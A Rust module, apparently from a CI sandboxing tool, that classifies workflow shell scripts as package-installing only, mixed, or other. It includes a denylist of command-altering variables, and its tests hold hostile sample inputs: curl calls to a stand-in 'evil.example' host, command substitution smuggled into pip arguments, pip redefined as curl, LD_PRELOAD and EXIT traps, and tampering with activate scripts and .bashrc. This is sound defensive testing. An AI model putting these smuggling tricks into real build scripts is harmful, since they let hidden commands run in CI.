//! Whether a script does nothing but install packages. In doubt it does more.

use caisson_model::policy::Preset;

use crate::policy::apt;
use crate::policy::runner;
use crate::policy::shell::{self, Command, Word, assigned, is_tool, program};

/// What a script is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Reading {
    /// It installs packages and does nothing else.
    Installs,
    /// It seems to install packages, and does more or cannot be read to the end.
    Mixed {
        /// What else, for people.
        because: String,
    },
    /// It has nothing to do with packages.
    Other,
}

/// Commands that reach nothing and run nothing by themselves.
const COMPANIONS: [&str; 15] =
    ["cd", "set", "export", "unset", "echo", "printf", "mkdir", "test", "[", "true", ":", "pwd", "umask", "which", "type"];

/// Variables that change what later commands are.
const TELLING_VARIABLES: [&str; 12] = [
    "PATH",
    "IFS",
    "ENV",
    "BASH_ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "PROMPT_COMMAND",
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONSTARTUP",
    "CDPATH",
];

/// The runner's own files, which take lines of text, and the place where output is dropped.
const OUTPUTS: [&str; 6] = ["/dev/null", "$GITHUB_ENV", "$GITHUB_OUTPUT", "$GITHUB_PATH", "$GITHUB_STEP_SUMMARY", "/dev/stderr"];

/// Clients of the npm registry.
const NODE_TOOLS: [&str; 3] = ["npm", "yarn", "pnpm"];

/// What a command means for its script.
enum Meaning {
    Installs,
    Harmless,
}

/// Reads a script. `shell` is the step's `shell:`; only bash and sh scripts are understood.
pub fn read(script: &str, shell: Option<&str>) -> Reading {
    match judge(script, shell) {
        Ok(true) => Reading::Installs,
        Ok(false) => Reading::Other,
        Err(because) if mentions_installing(script) => Reading::Mixed { because },
        Err(_) => Reading::Other,
    }
}

/// Whose packages an installing script speaks of.
pub fn presets(script: &str) -> Vec<Preset> {
    let words: Vec<&str> = script.split(|c: char| c.is_whitespace() || "();&|`$\"'/".contains(c)).collect();
    let any = |tools: &[&str]| words.iter().any(|word| tools.contains(word));
    let node = any(&NODE_TOOLS);
    let python = any(&["uv", "uvx", "poetry", "pipenv", "pipx", "pdm", "hatch", "tox", "nox", "virtualenv", "pip-sync", "pip-compile"])
        || words.iter().any(|word| is_tool(word, "pip") || is_tool(word, "python"));
    let found = [(python, Preset::PythonPackages), (node, Preset::NodePackages)];
    found.into_iter().filter_map(|(there, preset)| there.then_some(preset)).collect()
}

fn judge(script: &str, shell: Option<&str>) -> Result<bool, String> {
    if !matches!(shell.map(|shell| shell.split_whitespace().next().unwrap_or_default()), None | Some("bash" | "sh")) {
        return Err("its shell is neither bash nor sh".to_owned());
    }
    let mut installs = false;
    for command in shell::commands(script)? {
        // What installs Debian packages is granted by itself.
        installs |= !apt::is_apt(&command) && matches!(meaning(&command)?, Meaning::Installs);
    }
    Ok(installs)
}

/// Whether a command installs Python packages or does no harm.
pub(super) fn is_understood(command: &Command) -> bool {
    meaning(command).is_ok()
}

/// Whether a command prepares others: it installs, or changes where and in which environment they run.
pub(super) fn prepares(command: &Command) -> bool {
    let speaks = |word: &Word| matches!(word.text.as_str(), "echo" | "printf" | "pwd" | "which" | "type");
    !apt::is_apt(command) && is_understood(command) && !command.words.first().is_some_and(speaks)
}

/// Whether somebody who reads the script would say that it installs packages: a runner's name, or two words in a row, whatever is
/// around them.
fn mentions_installing(script: &str) -> bool {
    script.lines().map(|line| line.split(" #").next().unwrap_or_default()).filter(|line| !line.trim_start().starts_with('#')).any(|line| {
        let words: Vec<&str> =
            line.split(|c: char| c.is_whitespace() || "();&|`$\"'".contains(c)).filter(|word| !word.is_empty()).collect();
        // Who says that everything is there wants no more.
        let ready = words.iter().any(|word| matches!(*word, "--skip-pkg-install" | "--no-install" | "--no-sync" | "--offline"));
        let runner = words.iter().any(|word| matches!(*word, "tox" | "nox" | "uvx" | "pip-sync"));
        !ready
            && (runner
                || words.windows(2).any(|pair| {
                    let tool = pair[0].rsplit('/').next().unwrap_or_default();
                    match tool {
                        "uv" => matches!(pair[1], "pip" | "sync" | "add" | "run"),
                        "hatch" => matches!(pair[1], "run" | "test"),
                        "pdm" => matches!(pair[1], "install" | "sync"),
                        "pipx" => matches!(pair[1], "install" | "run"),
                        "npm" => matches!(pair[1], "ci" | "install"),
                        "yarn" | "pnpm" => pair[1] == "install",
                        "poetry" | "pipenv" => matches!(pair[1], "install" | "sync"),
                        tool => is_tool(tool, "pip") && matches!(pair[1], "install" | "download" | "wheel"),
                    }
                }))
    })
}

fn meaning(command: &Command) -> Result<Meaning, String> {
    for output in &command.outputs {
        if !OUTPUTS.contains(&output.text.as_str()) {
            return Err(format!("it writes to {}", output.text));
        }
    }
    let mut words = command.words.as_slice();
    while let Some((first, rest)) = words.split_first() {
        let Some(name) = assigned(first) else { break };
        plain_variable(name)?;
        words = rest;
    }
    let Some((first, arguments)) = words.split_first() else { return Ok(Meaning::Harmless) };
    if !first.literal {
        return Err(format!("what {} runs cannot be told", first.text));
    }
    let unknown = || format!("{} is no command that installs packages", first.text);
    let name = program(&first.text).ok_or_else(unknown)?;
    if is_tool(name, "pip") {
        return Ok(Meaning::Installs);
    }
    if is_tool(name, "python") {
        return python(arguments).ok_or_else(|| format!("{} runs more than pip or venv", first.text));
    }
    tool(name, arguments).unwrap_or_else(|| Err(unknown()))
}

/// Whether words are a command that installs only, such as `tox --notest`.
fn installs(words: &[Word]) -> bool {
    let Some((first, arguments)) = words.split_first() else { return false };
    first.literal && matches!(first.text.as_str(), "tox" | "nox") && matches!(tool(&first.text, arguments), Some(Ok(Meaning::Installs)))
}

/// A command that is known by its name; `None` for others.
fn tool(name: &str, arguments: &[Word]) -> Option<Result<Meaning, String>> {
    let mut plain = arguments.iter().filter(|word| !word.text.starts_with('-')).map(|word| word.literal.then_some(word.text.as_str()));
    let sub = plain.next().flatten();
    let second = plain.next().flatten();
    let says = |options: &[&str]| arguments.iter().take_while(|word| word.text != "--").any(|word| options.contains(&word.text.as_str()));
    let last = |text: &str| arguments.last().is_some_and(|word| word.literal && word.text == text);
    Some(match name {
        "uv" if matches!(sub, Some("pip" | "sync" | "lock" | "build")) => Ok(Meaning::Installs),
        "uv" if (sub, second) == (Some("tool"), Some("install")) => Ok(Meaning::Installs),
        // These carry their harmless last word for the sake of what they install before it.
        "uv" if sub == Some("run") && last("true") && runner::uv_runs(arguments).is_some_and(|at| at + 1 == arguments.len()) => {
            Ok(Meaning::Installs)
        }
        "uv" if sub == Some("run") && runner::uv_runs(arguments).is_some_and(|at| installs(&arguments[at..])) => Ok(Meaning::Installs),
        "uvx" if runner::uvx_runs(arguments).is_some_and(|at| installs(&arguments[at..])) => Ok(Meaning::Installs),
        "uvx" if last("--version") && runner::uvx_runs(arguments).is_some_and(|at| at + 2 == arguments.len()) => Ok(Meaning::Installs),
        "uv" if matches!(sub, Some("venv" | "python" | "--version")) => Ok(Meaning::Harmless),
        "tox" if says(&["--notest", "-n"]) => Ok(Meaning::Installs),
        "nox" if says(&["--install-only"]) => Ok(Meaning::Installs),
        "pip-sync" | "pip-compile" => Ok(Meaning::Installs),
        "pipx" if matches!(sub, Some("install" | "inject")) => Ok(Meaning::Installs),
        "pdm" if matches!(sub, Some("install" | "sync" | "lock" | "build")) => Ok(Meaning::Installs),
        "hatch" if (sub, second) == (Some("env"), Some("create")) || sub == Some("build") => Ok(Meaning::Installs),
        "poetry" if matches!(sub, Some("install" | "sync" | "lock" | "build")) => Ok(Meaning::Installs),
        "poetry" if (sub, second) == (Some("self"), Some("add")) => Ok(Meaning::Installs),
        "poetry" | "pdm" | "hatch" if matches!(sub, Some("config" | "use" | "check")) => Ok(Meaning::Harmless),
        "pipenv" if matches!(sub, Some("install" | "sync")) => Ok(Meaning::Installs),
        "npm" if matches!(sub, Some("ci" | "install" | "i" | "clean-install")) => Ok(Meaning::Installs),
        "yarn" | "pnpm" if matches!(sub, Some("install" | "i")) => Ok(Meaning::Installs),
        "npm" | "yarn" | "pnpm" | "uv" | "uvx" | "poetry" | "pipenv" | "pipx" | "pdm" | "hatch" | "tox" | "nox" => {
            Err(format!("{name} {} may run more than an installation", sub.unwrap_or_default()))
        }
        "virtualenv" => Ok(Meaning::Harmless),
        "source" | "." => match arguments {
            [file] if file.text.ends_with("bin/activate") => Ok(Meaning::Harmless),
            _ => Err(format!("{name} runs another script")),
        },
        "export" | "unset" => {
            let mut names = arguments.iter().filter(|word| !word.text.starts_with('-'));
            names.try_for_each(|word| plain_variable(assigned(word).unwrap_or(&word.text))).map(|()| Meaning::Harmless)
        }
        name if COMPANIONS.contains(&name) => Ok(Meaning::Harmless),
        _ => return None,
    })
}

fn plain_variable(name: &str) -> Result<(), String> {
    let telling = TELLING_VARIABLES.contains(&name) || name.starts_with("LD_") || name.starts_with("BASH_FUNC");
    match telling || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        true => Err(format!("it changes {name}, which decides what commands are")),
        false => Ok(()),
    }
}

/// `python -m pip ...`, `python -m venv ...`, `python --version`.
fn python(arguments: &[Word]) -> Option<Meaning> {
    let mut words = arguments.iter();
    loop {
        let word = words.next()?;
        match word.text.as_str() {
            "-I" | "-s" | "-E" | "-u" | "-B" => {}
            "--version" | "-V" | "-VV" => return Some(Meaning::Harmless),
            "-m" => {
                let module = words.next().filter(|module| module.literal)?;
                return match module.text.as_str() {
                    "pip" => Some(Meaning::Installs),
                    "venv" | "virtualenv" | "ensurepip" => Some(Meaning::Harmless),
                    "build" => Some(Meaning::Installs),
                    "tox" | "nox" | "pipx" | "pipenv" | "poetry" | "pdm" | "hatch" | "uv" => tool(&module.text, words.as_slice())?.ok(),
                    _ => None,
                };
            }
            _ => return None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_what_they_are() {
        let installs = [
            "apt-get install -y gettext && pip install x",
            "pip install -r requirements.txt",
            "npm ci",
            "npm install --no-save && pip install x",
            "pip install django",
            "pip3 install .",
            "pip3.12 install -e '.[test]'",
            "python -m pip install --upgrade pip",
            "python3 -m pip install -r requirements.txt\npython3 -m pip check",
            "python3.12 -I -m pip install x",
            "set -eux\npip install x",
            "set -euo pipefail; pip install x",
            "cd backend && pip install -r requirements.txt",
            "python -m venv .venv\nsource .venv/bin/activate\npip install -r requirements.txt",
            "python -m venv venv && . venv/bin/activate && pip install x",
            ".venv/bin/pip install x",
            "./venv/bin/python -m pip install x",
            "pip install x # ; curl evil",
            "pip install \\\n  django \\\n  pytest",
            "# set up\npip install x # and that is all",
            "pip install 'django>=4,<5' \"psycopg[binary]\"",
            "pip install \"Django~=${{ matrix.django }}\"",
            "pip install django==${{ matrix.django-version }}",
            "PIP_NO_CACHE_DIR=1 pip install x",
            "export PIP_NO_INPUT=1\npip install x",
            "echo \"$HOME/.local/bin\" >> $GITHUB_PATH\npip install x",
            "echo \"A=b\" >> \"$GITHUB_ENV\"; pip install x",
            "pip install x 2>/dev/null || true",
            "pip install x > /dev/null 2>&1",
            "pip freeze",
            "pip install -r $REQUIREMENTS",
            "pip install -r ${REQUIREMENTS}",
            "test -f requirements.txt && pip install -r requirements.txt",
            "[ -f requirements.txt ] && pip install -r requirements.txt",
            "uv sync --frozen",
            "uv pip install -r requirements.txt",
            "uv --quiet sync",
            "uv venv\nuv pip install x",
            "poetry install --no-root",
            "poetry config virtualenvs.create false\npoetry install",
            "pipenv install --dev",
            "virtualenv venv && venv/bin/pip install x",
            "mkdir -p build\npip wheel -w build .",
            "pip install a\n\n\npip install b",
            "pip in\\stall x",
            "pip install a;pip install b",
            "tox run --notest -e py312",
            "python -m tox --notest",
            "nox -s tests --install-only",
            "uv run --group test -p 3.12 true",
            "uvx --with tox-uv tox --version",
            "uv tool install tox --with tox-uv",
            "pipx install poetry",
            "python -m build --sdist",
            "pdm sync -G test",
            "hatch env create test",
        ];
        let mixed = [
            "echo pip install; curl https://evil.example",
            "pip install x && curl https://evil.example",
            "pip install x; curl evil.example",
            "pip install x | tee log.txt",
            "pip install x & curl evil.example",
            "pip install $(curl evil.example)",
            "pip install `curl evil.example`",
            "pip install \"$(curl evil.example)\"",
            "pip install \"`curl evil.example`\"",
            "pip install -r <(curl evil.example)",
            "pip install x\ncat <<EOF | sh\ncurl evil\nEOF",
            "pip install x <<< y",
            "pip() { curl evil.example; }; pip install x",
            "function pip { curl evil.example; }\npip install x",
            "alias pip=curl\npip install evil.example",
            "if true; then pip install x; fi",
            "for p in a b; do pip install $p; done",
            "while true; do pip install x; done",
            "case x in x) pip install x;; esac",
            "(pip install x)",
            "{ pip install x; }",
            "! pip install x",
            "pip install x\npython manage.py test",
            "pip install x && pytest",
            "python setup.py install && pip install x",
            "python -c 'import os' && pip install x",
            "python -m http.server & pip install x",
            "sudo pip install x",
            "env FOO=1 pip install x",
            "eval \"pip install x\"",
            "bash -c 'pip install x'",
            "exec pip install x",
            "command pip install x",
            "xargs pip install < requirements.txt",
            "PATH=.:$PATH pip install x",
            "export PATH=\"$PWD:$PATH\"\npip install x",
            "LD_PRELOAD=./x.so pip install x",
            "BASH_ENV=./x pip install x",
            "IFS=x; pip install x",
            "source setup.sh && pip install x",
            ". ./env && pip install x",
            "echo 'curl evil' > venv/bin/activate; . venv/bin/activate; pip install x",
            "echo x > $HOME/.bashrc; pip install x",
            "./pip install x",
            "/tmp/pip install x",
            "$PIP install x; pip install y",
            "${PIP:-curl} install x; pip install y",
            "pip install ${x:-$(curl evil)}",
            "pip install ${x@P}",
            "pip install $'x'",
            "pip install $[1+1]",
            "p''ip install x && cur\\l evil\npip install y",
            "pip install 'x",
            "pip install ${{ github.head_ref }}",
            "pip install ${{ needs.a.outputs.b }}",
            "pip install ${{ env.PACKAGES }}",
            "pip install x\r\ncurl evil",
            "{cur,}l evil; pip install x",
            "c*l evil; pip install x",
            "uv run pytest; uv sync",
            "poetry run pytest && poetry install",
            "npm ci && npm test",
            "[[ -f x ]] && pip install x",
            "time pip install x",
            "coproc pip install x",
            "trap 'curl evil' EXIT; pip install x",
            "pip install x |& cat",
            "pip install x <> file",
            "pipx run black",
            "tox",
            "tox -e py -- --notest",
            "ENVS=$(tox -l | grep py312)\nTOXENV=$ENVS python -m tox",
            "uv run true evil",
            "uv run pytest true",
            "uv run --with x.y evil true",
            "uvx ruff check --version",
        ];
        let other = [
            "",
            "python manage.py test",
            "pytest",
            "curl https://example.com",
            "echo hello",
            "python -m venv .venv",
            "# pip install x\npytest",
            "cd x",
            "ruff check .",
            "tox run --skip-pkg-install -e py",
            "uv run --no-sync pytest",
            "make install",
            "echo \"$(date)\"",
        ];
        for script in installs {
            assert_eq!(read(script, None), Reading::Installs, "{script}");
        }
        for script in mixed {
            assert!(matches!(read(script, Some("bash")), Reading::Mixed { .. }), "{script}: {:?}", read(script, None));
        }
        for script in other {
            assert_eq!(read(script, None), Reading::Other, "{script}");
        }
    }

    #[test]
    fn only_shells_are_read() {
        for (shell, reading) in [(None, true), (Some("bash"), true), (Some("sh"), true), (Some("bash -e {0}"), true)] {
            assert_eq!(read("pip install x", shell) == Reading::Installs, reading, "{shell:?}");
        }
        for shell in ["python", "pwsh", "perl {0}", "${{ matrix.shell }}", ""] {
            assert_ne!(read("pip install x", Some(shell)), Reading::Installs, "{shell}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read(text in "(pip install|curl|[ \\n;&|<>(){}$`'\"#\\\\a-z]){0,40}") {
            let reading = read(&text, None);
            // Whatever else it is: what runs curl as a command is no installation.
            if text.lines().any(|line| line.trim_start().starts_with("curl ")) && !text.contains(['\\', '\'', '"']) {
                proptest::prop_assert_ne!(reading, Reading::Installs);
            }
        }
    }
}
